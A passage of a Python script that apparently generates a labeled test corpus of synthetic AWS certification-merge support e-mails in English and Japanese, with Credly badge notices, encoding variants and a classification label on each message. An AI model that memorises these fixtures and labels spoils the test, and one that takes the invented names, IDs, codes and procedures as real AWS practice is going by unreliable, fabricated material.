> >     E-mail: dan.hughes.dev@gmail.com
> >
> > Please reply to this e-mail to confirm that the details above are correct
> > and that you would like us to proceed.
"""
    body = alternative(tpart(new + quoted, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new, quoted), "html", "utf-8", "quoted-printable"), "java", d)
    emit(5, "form-thanks-confirming-will-proceed", kind="support_reply", case=C1, ids=[], sv=True,
         lang="en", frm=addr(*AWS_FORM), to=DAN[1], subject=FORM_SUBJ % C1, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, DAN[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 006 -- Japanese agent asks about scheduled exams ---------------------
    d = D("2025-08-05 02:10:33")
    snd = sender_amazon(d)
    new = """佐藤 美咲 様

AWS トレーニングと認定 カスタマーサポートへお問い合わせいただき、誠にありがとうございます。
担当の小林でございます。

認定アカウント AWS08816403 と AWS13370952 の統合のご依頼、確かに承りました。

作業に先立ちまして、一点確認させていただきたいことがございます。
現在、いずれかのアカウントで試験のご予約（ピアソン VUE のテストセンター受験またはオンライン受験）はございますでしょうか。

ご予約がある状態で処理を行いますと、予約情報や受験結果が正しく反映されない場合があるため、受験日を確認のうえ作業日程を調整させていただいております。
お手数ではございますが、ご予約がある場合は試験名と受験予定日を、ご予約がない場合はその旨を、本メールへのご返信にてお知らせいただけますと幸いです。

何卒よろしくお願い申し上げます。

小林 陽子
AWS トレーニングと認定 カスタマーサポート
Amazon Web Services
"""
    quoted = """
-----Original Message-----
From: misaki.sato@nifty.com
Sent: 2025-08-04 01:22:10 (UTC)
Subject: [AWS Training and Certification Form Submission] - account-assistance

お問い合わせの種類: 認定
詳細: アカウントの統合
AWS 受験者 ID: AWS08816403
内容: 会社用と個人用で認定アカウントが2つあります。個人用（AWS13370952）に統合をお願いします。
"""
    body = tpart(new + quoted, "plain", "iso-2022-jp", "7bit")
    emit(6, "ja-agent-asks-exam-booking", kind="support_reply", case=C2, ids=["AWS08816403", "AWS13370952"],
         sv=True, lang="ja", frm=addr(*AWS_FORM), to=P(MISAKI, "iso-2022-jp"), subject=FORM_SUBJ % C2, date=d,
         body=body, new=new, rx=rx_jp("nifty", snd, d, MISAKI[1]) + dkim_hdrs(snd, d), tz=UTC,
         extra=with_trailer(snd))

    # 007 -- console: new correspondence notice ----------------------------
    d = D("2026-01-13 10:02:19")
    snd = sender_amazon(d)
    new = """Hello,

A new correspondence has been added to your AWS Support case.

Case ID: %s
Subject: Merge three AWS Certification accounts into one
Severity: General guidance

To view the correspondence and reply, sign in to the AWS Support Center:
https://console.aws.amazon.com/support/home#/case/?displayId=%s&language=en

Thank you for using Amazon Web Services.

Sincerely,
Amazon Web Services

This is an automated message. Replies to this address are not monitored.
""" % (C3, C3)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#232f3e">
<p>Hello,</p>
<p>A new correspondence has been added to your AWS Support case.</p>
<table cellpadding="4" style="border-collapse:collapse">
<tr><td><b>Case ID:</b></td><td>%s</td></tr>
<tr><td><b>Subject:</b></td><td>Merge three AWS Certification accounts into one</td></tr>
<tr><td><b>Severity:</b></td><td>General guidance</td></tr>
</table>
<p>To view the correspondence and reply, sign in to the <a href="https://console.aws.amazon.com/support/home#/case/?displayId=%s&amp;language=en">AWS Support Center</a>.</p>
<p>Thank you for using Amazon Web Services.</p>
<p>Sincerely,<br>Amazon Web Services</p>
<p style="font-size:11px;color:#687078">This is an automated message. Replies to this address are not monitored.</p>
</body></html>
""" % (C3, C3)
    body = tpart(html, "html", "utf-8", "quoted-printable")
    emit(7, "console-new-correspondence-notice", kind="support_reply", case=C3, ids=[], sv=True, lang="en",
         frm=addr(*AWS_CONSOLE), to=RAHUL[1], subject="[Case %s] New correspondence added" % C3, date=d,
         body=body, new=new, rx=rx_outlook(snd, d, RAHUL[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 008 -- console agent asks legal name / which to keep ----------------
    d = D("2026-01-13 10:02:11")
    snd = sender_amazon(d)
    new = """Hello Rahul,

Thank you for contacting AWS Support about your certification accounts.

I have looked up the three candidate IDs you listed: AWS02238871, AWS11650094 and AWS-09901237. The first two are registered under "Rahul Menon", but AWS-09901237 is registered under "Rahul M. Kumar" with a different date of birth.

Our policy only allows accounts that belong to the same individual to be combined, so I need a little more information before I can move forward:

1. Your full legal name exactly as it appears on the government-issued ID you presented at the test center.
2. The e-mail address you use to sign in to each of the three accounts.
3. Which of the three accounts you would like to keep as your primary account.

Please reply through the Support Center using the link below, as this mailbox does not receive replies.

Best regards,
Owen T.
Amazon Web Services
""" + console_footer(C3)
    full = new + console_links(C3)
    body = alternative(tpart(full, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(full), "html", "utf-8", "quoted-printable"), "java", d)
    emit(8, "console-agent-asks-legal-name", kind="support_reply", case=C3,
         ids=["AWS02238871", "AWS09901237", "AWS11650094"], sv=True, lang="en", frm=addr(*AWS_CONSOLE),
         to=RAHUL[1], subject="RE:[CASE %s] Merge three AWS Certification accounts into one" % C3, date=d,
         body=body, new=full, rx=rx_outlook(snd, d, RAHUL[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 009 -- Credly self-service account merge code (unrelated) -------------
    d = D("2026-01-20 18:44:05")
    snd = sender_credly(d)
    new = """Hi Rahul,

We received a request to merge the Credly account registered to rahul.m.kumar@gmail.com into your Credly account (rahul.menon@outlook.com).

Your verification code is: 482913

Enter this code on the merge page, or select the button below to finish:
Complete Account Merge: https://www.credly.com/users/account_merges/confirm?token=9f1c2ab7e04d4c55b1e83f7d2a6c0e11

This code expires in 24 hours. Once the accounts are merged, all badges from the secondary account will appear in your primary account. If you did not request this, you can ignore this e-mail.

Thanks,
The Credly Team

Credly, Inc. | 1250 Broadway, 24th Floor, New York, NY 10001
Privacy Policy: https://credly.com/privacy | Terms: https://credly.com/terms
"""
    html = """<!doctype html><html><body style="background:#f5f5f5;font-family:Helvetica,Arial,sans-serif">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" style="background:#fff;padding:32px">
<tr><td><img src="https://images.credly.com/images/credly-logo-orange.png" alt="Credly" width="110"></td></tr>
<tr><td style="font-size:15px;line-height:1.5;color:#333">
<p>Hi Rahul,</p>
<p>We received a request to merge the Credly account registered to rahul.m.kumar@gmail.com into your Credly account (rahul.menon@outlook.com).</p>
<p>Your verification code is: <b style="font-size:22px;letter-spacing:4px">482913</b></p>
<p>Enter this code on the merge page, or select the button below to finish:</p>
<p><a href="https://www.credly.com/users/account_merges/confirm?token=9f1c2ab7e04d4c55b1e83f7d2a6c0e11" style="background:#ff6b00;color:#fff;padding:12px 22px;text-decoration:none;border-radius:4px">Complete Account Merge</a></p>
<p>This code expires in 24 hours. Once the accounts are merged, all badges from the secondary account will appear in your primary account. If you did not request this, you can ignore this e-mail.</p>
<p>Thanks,<br>The Credly Team</p>
</td></tr>
<tr><td style="font-size:11px;color:#999">Credly, Inc. | 1250 Broadway, 24th Floor, New York, NY 10001 &middot; <a href="https://credly.com/privacy">Privacy Policy</a> &middot; <a href="https://credly.com/terms">Terms</a></td></tr>
</table></td></tr></table></body></html>
"""
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"),
                       tpart(html, "html", "utf-8", "quoted-printable"), "other", d)
    emit(9, "credly-self-service-merge-code", kind="unrelated", case=None, ids=[], sv=True, lang="en",
         frm=addr("Credly", "admin@credly.com"), to=RAHUL[1], subject="Your Credly account merge verification code",
         date=d, body=body, new=new, rx=rx_outlook(snd, d, RAHUL[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd),
         msgid="<%s@geopod-ismtpd-%d>" % (rb64(22).replace("/", "x"), R.randint(1, 40)))

    # 010 -- Japanese console escalation (Shift_JIS) ------------------------
    d = D("2025-11-19 06:20:48")
    snd = sender_amazon(d)
    new = """田中 健一 様

AWS サポートにお問い合わせいただき、ありがとうございます。
担当の中村でございます。

認定アカウント（AWS05560318 / AWS10274466）の統合につきまして、本件は認定アカウントを管理する専門チームでの対応が必要となるため、同チームへエスカレーションいたしました。

専門チームでの確認には、通常 3～5 営業日ほどお時間を頂戴しております。進捗がございましたら本ケースにてご連絡いたしますので、恐れ入りますが今しばらくお待ちくださいますようお願い申し上げます。

なお、同一のご依頼で新しいケースを作成されますと、対応が重複しかえってお時間を要する場合がございます。追加のご連絡は本ケースへのご返信にてお願いいたします。

引き続きよろしくお願いいたします。

中村
Amazon Web Services
"""
    footer = """
本対応についてのご評価をお願いいたします。サポートセンターの各コレスポンデンス右上の星を選択して評価いただけます。

======================
本ケースのすべてのやり取りは、以下のリンクからサポートセンターにサインインしてご確認いただけます:
https://console.aws.amazon.com/support/home#/case/?displayId=%s&language=ja

※このメールは送信専用アドレスから送信されています。ご返信いただいても対応いたしかねますので、上記リンクからサポートセンターでケースを更新してください。
""" % C4
    full = new + footer
    body = alternative(tpart(full, "plain", "shift_jis", "base64"),
                       tpart(aws_html(full, lang="ja").replace("charset=utf-8", "charset=Shift_JIS"), "html",
                             "shift_jis", "base64"), "java", d)
    emit(10, "ja-console-escalated-to-team", kind="support_reply", case=C4, ids=["AWS05560318", "AWS10274466"],
         sv=True, lang="ja", frm=addr(*AWS_CONSOLE), to=TANAKA[1],
         subject="RE:[CASE %s] 認定アカウントの統合のお願い" % C4, subj_charset="iso-2022-jp", date=d, body=body,
         new=full, rx=rx_jp("biglobe", snd, d, TANAKA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))


# ===========================================================================
# Block 2: 011-020
# ===========================================================================
def block2():
    # 011 -- console: case opened (English template, Japanese case subject) --
    d = C4_OPEN + dt.timedelta(seconds=6)
    snd = sender_amazon(d)
    new = """Dear Customer,

Thank you for contacting Amazon Web Services. We have opened case %s to address your issue.

The details of your case are as follows:

Case ID: %s
Subject: 認定アカウントの統合のお願い
Severity: General guidance

We will respond as soon as we can. To add information or view the progress of your case, sign in to the Support Center:
https://console.aws.amazon.com/support/home#/case/?displayId=%s&language=ja

Sincerely,
Amazon Web Services

*Please note: this e-mail was sent from an address that cannot accept incoming e-mails.
""" % (C4, C4, C4)
    body = tpart(new, "plain", "utf-8", "quoted-printable")
    emit(11, "console-case-opened-ja-subject", kind="case_created", case=C4, ids=[], sv=True, lang="en",
         frm=addr(*AWS_CONSOLE), to=TANAKA[1],
         subject="Amazon Web Services: You have opened a new Support case: %s" % C4, date=d, body=body, new=new,
         rx=rx_jp("biglobe", snd, d, TANAKA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 012 -- delay apology, mislabelled charset (cp1252 bytes, iso-8859-1) --
    d = D("2022-09-06 21:15:09")
    snd = sender_amazon(d)
    new = """Hello Sofia,

I\u2019m writing to give you an update on your request to combine your two AWS Certification accounts.

I\u2019m sorry for the delay in getting back to you \u2013 we\u2019re currently seeing a higher than usual volume of account requests, and our Certification team\u2019s response times are longer than normal. Your case hasn\u2019t been forgotten: it\u2019s in the team\u2019s queue and I\u2019m keeping an eye on it.

I\u2019ll update this case as soon as I hear back from them, or by Friday, September 9 at the latest.

Thank you for your patience and understanding.

Best regards,
Ikechukwu A.
Amazon Web Services
""" + console_footer(C5)
    full = new + console_links(C5)
    body = tpart(full, "plain", "windows-1252", "quoted-printable", declared="iso-8859-1")
    emit(12, "console-delay-apology-high-volume", kind="support_reply", case=C5, ids=[], sv=True, lang="en",
         frm=addr(*AWS_CONSOLE), to=SOFIA[1],
         subject="RE:[CASE %s] Request to merge two certification accounts" % C5, date=d, body=body, new=full,
         rx=rx_gmail(snd, d, SOFIA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 013 -- asks for exam names and dates on each account ----------------
    d = D("2022-09-02 17:48:30")
    snd = sender_amazon(d)
    new = """Hello Sofia,

Thank you for contacting AWS Support.

I can see two AWS Certification profiles that match your name, AWS00731845 and AWS07719320. Before we pass this to the Certification team, we need to verify that both profiles belong to you.

Could you please reply with the following for each profile:

- the name of at least one exam you took with it, and
- the approximate date of that exam (month and year is enough), and
- whether you took it at a test center or online.

For example: "AWS Certified Cloud Practitioner, March 2021, online proctored".

Please do not include any exam scores or copies of ID documents in your reply.

Best regards,
Ikechukwu A.
Amazon Web Services
""" + console_footer(C5)
    full = new + console_links(C5)
    body = tpart(full, "plain", "utf-8", "base64")
    emit(13, "console-asks-exam-names-dates", kind="support_reply", case=C5, ids=["AWS00731845", "AWS07719320"],
         sv=True, lang="en", frm=addr(*AWS_CONSOLE), to=SOFIA[1],
         subject="RE:[CASE %s] Request to merge two certification accounts" % C5, date=d, body=body, new=full,
         rx=rx_gmail(snd, d, SOFIA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 014 -- completed -----------------------------------------------------
    d = D("2022-09-12 14:02:55")
    snd = sender_amazon(d)
    new = """Hello Sofia,

Good news: the Certification team has finished combining your profiles.

Everything that was on AWS00731845 - your certifications, exam history and your unused 50% exam voucher - now appears under AWS07719320. The old profile has been deactivated, so from now on please sign in with sofia.marquez.cloud@gmail.com only.

Your Credly badges are being transferred separately and should show up in your Credly account within 48 hours. If they haven't appeared by then, just let us know on this case.

Best regards,
Ikechukwu A.
Amazon Web Services
""" + console_footer(C5)
    full = new + console_links(C5)
    body = alternative(tpart(full, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(full), "html", "utf-8", "quoted-printable"), "java", d)
    emit(14, "console-profiles-combined", kind="merge_completed", case=C5, ids=["AWS00731845", "AWS07719320"],
         sv=True, lang="en", frm=addr(*AWS_CONSOLE), to=SOFIA[1],
         subject="RE:[CASE %s] Request to merge two certification accounts" % C5, date=d, body=body, new=full,
         rx=rx_gmail(snd, d, SOFIA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 015 -- resolved notice with survey (HTML only) ------------------------
    d = D("2022-09-13 14:05:12")
    snd = sender_amazon(d)
    new = """Amazon Web Services Support

Your support case has been resolved

Case ID: %s
Subject: Request to merge two certification accounts

We consider this case resolved. If you need further help with the same issue, you can reopen the case from the Support Center within 14 days.

Was your issue resolved?
YES   NO

How would you rate the support you received? 1 2 3 4 5

Your feedback helps us improve. The survey takes less than a minute.
""" % C5
    html = """<html><head><meta charset="utf-8"><title>Case resolved</title></head>
<body style="margin:0;background:#f2f3f3;font-family:Arial,sans-serif">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#232f3e;color:#fff;padding:16px 24px;font-size:18px">Amazon Web Services Support</td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:1.6;color:#16191f">
<h2 style="font-size:20px;margin:0 0 12px">Your support case has been resolved</h2>
<p><b>Case ID:</b> %s<br><b>Subject:</b> Request to merge two certification accounts</p>
<p>We consider this case resolved. If you need further help with the same issue, you can reopen the case from the <a href="https://console.aws.amazon.com/support/home#/case/?displayId=%s">Support Center</a> within 14 days.</p>
<p style="font-weight:bold;margin-top:24px">Was your issue resolved?</p>
<p><a href="https://survey.support.aws.a2z.com/s?c=%s&amp;r=yes" style="background:#ff9900;color:#16191f;padding:8px 22px;text-decoration:none;margin-right:8px">YES</a>
<a href="https://survey.support.aws.a2z.com/s?c=%s&amp;r=no" style="background:#eaeded;color:#16191f;padding:8px 22px;text-decoration:none">NO</a></p>
<p style="font-weight:bold;margin-top:24px">How would you rate the support you received?</p>
<p>%s</p>
<p style="color:#687078">Your feedback helps us improve. The survey takes less than a minute.</p>
</td></tr></table></td></tr></table></body></html>
""" % (C5, C5, C5, C5, " ".join('<a href="https://survey.support.aws.a2z.com/s?c=%s&amp;s=%d">%d</a>' % (C5, i, i) for i in range(1, 6)))
    body = tpart(html, "html", "utf-8", "base64")
    emit(15, "console-case-resolved-survey", kind="survey", case=C5, ids=[], sv=True, lang="en",
         frm=addr(*AWS_CONSOLE), to=SOFIA[1], subject="Your AWS Support case %s has been resolved" % C5,
         date=d, body=body, new=new, rx=rx_gmail(snd, d, SOFIA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 016 -- correction of reversed direction, already confirmed, proceeding --
    d = D("2025-03-18 13:27:40")
    snd = sender_amazon(d)
    new = """Hello Tom,

Thank you for catching that, and my apologies for the confusion.

You are right: my previous e-mail had the direction reversed. To correct the record, AWS03318842 is the account that will be merged and closed, and AWS12880017 is the account that will stay active. This matches what you asked for in your original request.

As your reply already states the correct direction and asks us to go ahead, there is no need to confirm again. I have updated the request with the Certification team and we are proceeding on that basis. I will let you know as soon as it has been processed.

Kind regards,
Bartosz W.
AWS Training and Certification Customer Support
"""
    quoted = """
________________________________
From: Tom Becker <tom.becker@norrland-freight.de>
Sent: Tuesday, March 18, 2025 9:14 AM
To: Amazon Web Services <aws-cs-trainingcertification-form@amazon.com>
Subject: RE:[CASE %s] [AWS Training and Certification Form Submission] - account-assistance

Hi Bartosz,

I think this is the wrong way round. I want to KEEP AWS12880017 (my current login tom.becker@norrland-freight.de) and have the old one, AWS03318842, merged into it. Please go ahead on that basis.

Thanks
Tom

Tom Becker | Cloud Platform Lead
Norrland Freight GmbH | Hafenstrasse 12 | 20457 Hamburg

________________________________
From: Amazon Web Services <aws-cs-trainingcertification-form@amazon.com>
Sent: Monday, March 17, 2025 4:50 PM
To: Tom Becker <tom.becker@norrland-freight.de>
Subject: RE:[CASE %s] [AWS Training and Certification Form Submission] - account-assistance

Hello Tom,

We are ready to merge AWS12880017 into AWS03318842. After the merge only AWS03318842 will remain. Please reply to confirm.
""" % (C6, C6)
    body = tpart(new + quoted, "plain", "utf-8", "quoted-printable")
    emit(16, "form-direction-corrected-proceeding", kind="support_reply", case=C6,
         ids=["AWS03318842", "AWS12880017"], sv=True, lang="en", frm=addr(*AWS_FORM), to=P(TOM),
         subject=FORM_SUBJ % C6, date=d, body=body, new=new,
         rx=rx_outlook(snd, d, TOM[1], corporate=True) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 017 -- corrected direction and asks to confirm (a real request) --------
    d = D("2024-09-20 16:31:08")
    snd = sender_amazon(d)
    new = """Hi Wei,

Please accept my apologies - in my e-mail yesterday the two accounts were listed the wrong way round. The correct details of the request are below:

\u2022 Source account (will be closed after the merge): AWS06642290 \u2013 weizhang_88@yahoo.com
\u2022 Destination account (will remain active): aws 09173350 \u2013 wei.zhang@brightpath-analytics.com

Everything from the source account (certifications, exam history, digital badges and any unused exam benefits) will be transferred to the destination account. This cannot be undone afterwards.

Could you please reply to this e-mail with "I confirm" if the above is correct? We will only start once we receive your confirmation.

Thanks,
Anjali P.
AWS Training and Certification
"""
    quoted = """
-----Original Message-----
From: Amazon Web Services <aws-cs-trainingcertification-form@amazon.com>
Sent: Thursday, September 19, 2024 2:12 PM
To: weizhang_88@yahoo.com
Subject: RE:[CASE %s] [AWS Training and Certification Form Submission] - account-assistance

Hi Wei,

We will merge AWS09173350 (wei.zhang@brightpath-analytics.com) into AWS06642290 (weizhang_88@yahoo.com). Please reply to confirm.
""" % C7
    body = alternative(tpart(new + quoted, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new, quoted), "html", "utf-8", "quoted-printable"), "java", d)
    emit(17, "form-corrected-direction-please-confirm", kind="merge_confirmation_requested", case=C7,
         ids=["AWS06642290", "AWS09173350"], sv=True, lang="en", frm=addr(*AWS_FORM), to=WEI[1],
         subject=FORM_SUBJ % C7, date=d, body=body, new=new,
         rx=rx_yahoo(snd, d, WEI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 018 -- which e-mail to keep for sign-in -------------------------------
    d = D("2024-09-17 20:55:26")
    snd = sender_amazon(d)
    new = """Hello Wei,

Thank you for contacting AWS Training and Certification.

I found both certification profiles you mentioned: AWS06642290 and AWS09173350. Before I prepare the request for our Certification team, I have one question about the sign-in address.

The two profiles use different e-mail addresses (weizhang_88@yahoo.com and wei.zhang@brightpath-analytics.com). Afterwards only one address can be used to sign in. Which of the two would you like to keep? If you would prefer a different address altogether, please tell me that as well.

Regards,
Anjali P.
AWS Training and Certification
"""
    body = alternative(tpart(new, "plain", "utf-8", "7bit"),
                       tpart(aws_html(new), "html", "utf-8", "quoted-printable"), "java", d)
    emit(18, "form-which-signin-email-to-keep", kind="support_reply", case=C7,
         ids=["AWS06642290", "AWS09173350"], sv=True, lang="en", frm=addr(*AWS_FORM), to=WEI[1],
         subject=FORM_SUBJ % C7, date=d, body=body, new=new,
         rx=rx_yahoo(snd, d, WEI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 019 -- Japanese: thanks for approval, work started --------------------
    d = D("2025-05-28 01:15:42")
    snd = sender_amazon(d)
    new = """山本 翔 様

お世話になっております。AWS トレーニングと認定 カスタマーサポートの伊藤でございます。

ご承認のご返信をいただき、誠にありがとうございます。
AWS14420561 を存続アカウントとする形で、統合作業を担当チームにて開始いたしました。

作業完了までには通常 1～3 営業日ほどお時間をいただいております。完了いたしましたら、改めて本ケースにてご連絡を差し上げます。
それまでの間、両アカウントのプロフィール情報の変更や新たな試験のご予約はお控えいただけますと幸いです。

引き続きよろしくお願い申し上げます。

伊藤 真理
AWS トレーニングと認定 カスタマーサポート
"""
    quoted = """
2025年5月28日(水) 8:02 山本 翔 <sho.yamamoto@ocn.ne.jp>:
> 伊藤様
>
> ご連絡ありがとうございます。
> 内容に間違いありません。統合を進めてください。
>
> 山本
>
> 2025年5月27日(火) 15:44 Amazon Web Services <aws-cs-trainingcertification-form@amazon.com>:
> > 山本 翔 様
> >
> > ■ 統合元アカウント（統合後に無効となります）
> > 　受験者 ID：AWS01984433
> > ■ 統合先アカウント（統合後も引き続きご利用いただけます）
> > 　受験者 ID：AWS14420561
> >
> > 上記内容にお間違いがなければ、本メールにご返信のうえご承認いただけますでしょうか。
"""
    body = tpart(new + quoted, "plain", "utf-8", "base64")
    emit(19, "ja-thanks-approval-work-started", kind="support_reply", case=C8, ids=["AWS14420561"], sv=True,
         lang="ja", frm=addr(*AWS_FORM), to=P(YAMA), subject=FORM_SUBJ % C8, date=d, body=body, new=new,
         rx=rx_jp("ocn", snd, d, YAMA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 020 -- Japanese confirmation request (ISO-2022-JP) ---------------------
    d = D("2025-05-27 06:44:18")
    snd = sender_amazon(d)
    new = """山本 翔 様

いつもお世話になっております。AWS トレーニングと認定 カスタマーサポートの伊藤でございます。

ご依頼いただいております認定アカウントの統合につきまして、下記の内容で作業を行う予定です。

■ 統合元アカウント（統合後に無効となります）
　受験者 ID：AWS01984433
　メールアドレス：sho.yamamoto@ocn.ne.jp
■ 統合先アカウント（統合後も引き続きご利用いただけます）
　受験者 ID：AWS14420561
　メールアドレス：s.yamamoto@kanto-sys.co.jp

統合後は、統合元アカウントの認定資格、受験履歴、特典などがすべて統合先アカウントへ移行されます。
なお、一度統合を行うと元に戻すことはできませんので、あらかじめご了承ください。

上記内容にお間違いがなければ、本メールにご返信のうえ、統合の実施についてご承認いただけますでしょうか。
ご返信を確認次第、作業を開始いたします。

何卒よろしくお願い申し上げます。

伊藤 真理
AWS トレーニングと認定 カスタマーサポート
"""
    body = tpart(new, "plain", "iso-2022-jp", "7bit")
    emit(20, "ja-please-approve-merge", kind="merge_confirmation_requested", case=C8,
         ids=["AWS01984433", "AWS14420561"], sv=True, lang="ja", frm=addr(*AWS_FORM), to=P(YAMA, "iso-2022-jp"),
         subject=FORM_SUBJ % C8, date=d, body=body, new=new,
         rx=rx_jp("ocn", snd, d, YAMA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))


# ===========================================================================
# Block 3: 021-030
# ===========================================================================
PHISH30_OPEN = D("2024-09-21 03:00:00")
PHISH30 = case15(PHISH30_OPEN, "00417")


def block3():
    # 021 -- Japanese completion --------------------------------------------
    d = D("2025-05-29 05:30:04")
    snd = sender_amazon(d)
    new = """山本 翔 様

お世話になっております。AWS トレーニングと認定 カスタマーサポートの伊藤でございます。

大変お待たせいたしました。ご依頼いただいておりました認定アカウントの統合作業が完了いたしましたので、ご報告申し上げます。

統合元の AWS01984433 に登録されていた認定資格および受験履歴は、すべて AWS14420561 へ移行済みです。今後は s.yamamoto@kanto-sys.co.jp にてサインインしてください。

Credly のデジタルバッジにつきましては、反映までに最大 48 時間ほどかかる場合がございます。お手数ですが、しばらく経ってもバッジが表示されない場合は本ケースにご返信ください。

このたびはご協力いただき、誠にありがとうございました。

伊藤 真理
AWS トレーニングと認定 カスタマーサポート
"""
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new, lang="ja"), "html", "utf-8", "quoted-printable"), "java", d)
    emit(21, "ja-merge-done-report", kind="merge_completed", case=C8, ids=["AWS01984433", "AWS14420561"],
         sv=True, lang="ja", frm=addr(*AWS_FORM), to=P(YAMA), subject=FORM_SUBJ % C8, date=d, body=body,
         new=new, rx=rx_jp("ocn", snd, d, YAMA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 022 -- 2019, 10-digit case: picked up, looking into it ---------------
    d = D("2019-04-09 18:22:37")
    snd = sender_amazon(d)
    new = """Hi Maria,

Thanks for writing in. Just a quick note to let you know that I've picked up your case and am looking into the duplicate certification profiles you reported.

I'm checking the records on our side and coordinating with the team that manages candidate profiles. I expect to have an update for you within 2 business days. You don't need to do anything in the meantime.

Cheers,
Liam K.
AWS Training & Certification
"""
    quoted = """
On Mon, Apr 8, 2019 at 9:12 PM Maria Rossi <maria.rossi.it@gmail.com> wrote:

> Hello,
> I just noticed that I have two profiles in the certification system:
> AWS00451290 (created 2016 with my university mail) and AWS00988714.
> Could you merge them? I would like to keep the second one.
> Thank you,
> Maria
"""
    body = tpart(new + quoted, "plain", "utf-8", "quoted-printable")
    emit(22, "2019-picked-up-looking-into-it", kind="support_reply", case=C9, ids=[], sv=True, lang="en",
         frm=addr(*AWS_FORM), to=P(MARIA), subject="RE: [CASE %s] AWS Certification - duplicate profile" % C9,
         date=d, body=body, new=new, rx=rx_gmail(snd, d, MARIA[1], arc=False) + dkim_hdrs(snd, d),
         extra=with_trailer(snd))

    # 023 -- 2019 Acclaim badge after consolidation --------------------------
    d = D("2019-04-17 09:41:12")
    snd = sender_credly(d, "youracclaim.com")
    new = """Hi Maria,

Amazon Web Services Training and Certification has issued you a new badge:

AWS Certified Solutions Architect - Associate

This badge was transferred to you following the consolidation of your AWS Certification profiles. Accept your badge to start sharing it with your professional network.

Accept your badge: https://www.youracclaim.com/earner/earned/badge/3b7e4f20-8d1c-4a9e-b2f5-61c0d9a7e443/accept

Why accept? Accepting your badge lets you share verified proof of your skills on LinkedIn, in your e-mail signature and on your resume.

Questions? Visit our help center: https://support.youracclaim.com

Acclaim | Pearson | 5601 Green Valley Drive, Bloomington, MN 55437
Unsubscribe from badge notifications: https://www.youracclaim.com/notifications/unsubscribe
"""
    html = """<html><body style="font-family:Helvetica,Arial,sans-serif;background:#eef1f4">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" style="background:#fff;padding:30px">
<tr><td align="center"><img src="https://www.youracclaim.com/assets/acclaim-logo.png" alt="Acclaim" width="140"></td></tr>
<tr><td style="font-size:15px;color:#333;line-height:1.5">
<p>Hi Maria,</p>
<p>Amazon Web Services Training and Certification has issued you a new badge:</p>
<p align="center"><img src="https://images.youracclaim.com/size/340x340/images/0e284c3f-5164-4b21-8660-0d84737941bc/image.png" width="170" alt="AWS Certified Solutions Architect - Associate"><br>
<b>AWS Certified Solutions Architect - Associate</b></p>
<p>This badge was transferred to you following the consolidation of your AWS Certification profiles. Accept your badge to start sharing it with your professional network.</p>
<p align="center"><a href="https://www.youracclaim.com/earner/earned/badge/3b7e4f20-8d1c-4a9e-b2f5-61c0d9a7e443/accept" style="background:#0b7cb8;color:#fff;padding:12px 28px;text-decoration:none;border-radius:3px">Accept your badge</a></p>
<p>Why accept? Accepting your badge lets you share verified proof of your skills on LinkedIn, in your e-mail signature and on your resume.</p>
<p style="font-size:12px;color:#888">Questions? Visit our <a href="https://support.youracclaim.com">help center</a>.<br>Acclaim | Pearson | 5601 Green Valley Drive, Bloomington, MN 55437<br>
<a href="https://www.youracclaim.com/notifications/unsubscribe">Unsubscribe from badge notifications</a></p>
</td></tr></table></td></tr></table></body></html>
"""
    body = alternative(tpart(new, "plain", "utf-8", "7bit"), tpart(html, "html", "utf-8", "quoted-printable"),
                       "other", d)
    emit(23, "2019-acclaim-badge-after-consolidation", kind="credly_badge_issued", case=None, ids=[], sv=True,
         lang="en", frm=addr("Amazon Web Services Training and Certification via Acclaim", "admin@youracclaim.com"),
         to=MARIA[1], subject="Amazon Web Services Training and Certification has issued you a new badge",
         date=d, body=body, new=new, rx=rx_gmail(snd, d, MARIA[1], arc=False) + dkim_hdrs(snd, d),
         extra=with_trailer(snd), msgid="<%s@ismtpd0%d6p1mdw1.sendgrid.net>" % (rb64(22).replace("/", "_"), R.randint(1, 9)))

    # 024 -- on hold: exam booked (no Authentication-Results) ----------------
    d = D("2024-06-05 09:48:55")
    snd = sender_amazon(d)
    new = """Hello Kevin,

Thank you for the details you sent.

Before we go any further: I noticed that AWS02775530 has an exam appointment booked for 12 June 2024 (AWS Certified Security - Specialty, online proctored through Pearson VUE). Profiles with an upcoming appointment cannot be combined until the exam has been taken and the result has been posted; otherwise the result could end up attached to a profile that no longer exists.

I have therefore placed your case on hold. Once your result appears in your account (usually within 5 business days of the exam), simply reply to this e-mail and we will pick it up again. If you would rather move the exam to a later date, let us know and we can continue straight away.

Kind regards,
Niamh D.
AWS Training and Certification Customer Support
"""
    body = tpart(new, "plain", "us-ascii", "7bit")
    emit(24, "form-on-hold-exam-booked-noauth", kind="support_reply", case=C10, ids=["AWS02775530"], sv=None,
